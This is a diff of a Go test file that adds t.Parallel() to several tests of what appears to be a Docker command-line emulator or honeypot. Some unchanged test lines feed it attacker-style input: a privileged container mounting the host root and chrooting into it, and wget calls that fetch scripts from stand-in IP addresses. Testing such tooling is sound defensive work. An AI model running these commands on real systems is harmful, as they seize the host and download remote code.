@@ -59,6 +59,7 @@ func (c *client) must(args ...string) string {
 }
 
 func TestCommandLineLooksAround(t *testing.T) {
+	t.Parallel()
 	r := start(t)
 	c := cli(t, r)
 	d := r.host.Docker
@@ -90,6 +91,7 @@ func TestCommandLineLooksAround(t *testing.T) {
 }
 
 func TestCommandLineTakesTheHost(t *testing.T) {
+	t.Parallel()
 	r := start(t)
 	c := cli(t, r)
 	out, errs, code := c.run("", "run", "--rm", "--privileged", "--net=host", "-v", "/:/mnt", "alpine", "chroot", "/mnt", "sh", "-c", "id; cat /etc/hostname; wget -q http://198.51.100.9/d.sh -O /tmp/d.sh; exit 3")
@@ -119,6 +121,7 @@ func TestCommandLineTakesTheHost(t *testing.T) {
 }
 
 func TestCommandLineLivesThere(t *testing.T) {
+	t.Parallel()
 	r := start(t)
 	c := cli(t, r)
 	id := strings.TrimSpace(c.must("run", "-d", "--name", "web1", "-e", "SECRET=x", "alpine", "sh", "-c", "echo out; echo err >&2; tail -f /dev/null"))
@@ -166,6 +169,7 @@ func TestCommandLineLivesThere(t *testing.T) {
 }
 
 func TestCommandLineGivesInput(t *testing.T) {
+	t.Parallel()
 	r := start(t)
 	c := cli(t, r)
 	out, errs, code := c.run("uname -s\nwget http://198.51.100.4/x.sh\nexit 4\n", "run", "-i", "--rm", "-v", "/:/host", "ubuntu", "bash")
@@ -185,6 +189,7 @@ func TestCommandLineGivesInput(t *testing.T) {
 }
 
 func TestCommandLineBringsThings(t *testing.T) {
+	t.Parallel()
 	r := start(t)
 	c := cli(t, r)
 	file := filepath.Join(t.TempDir(), "x.sh")
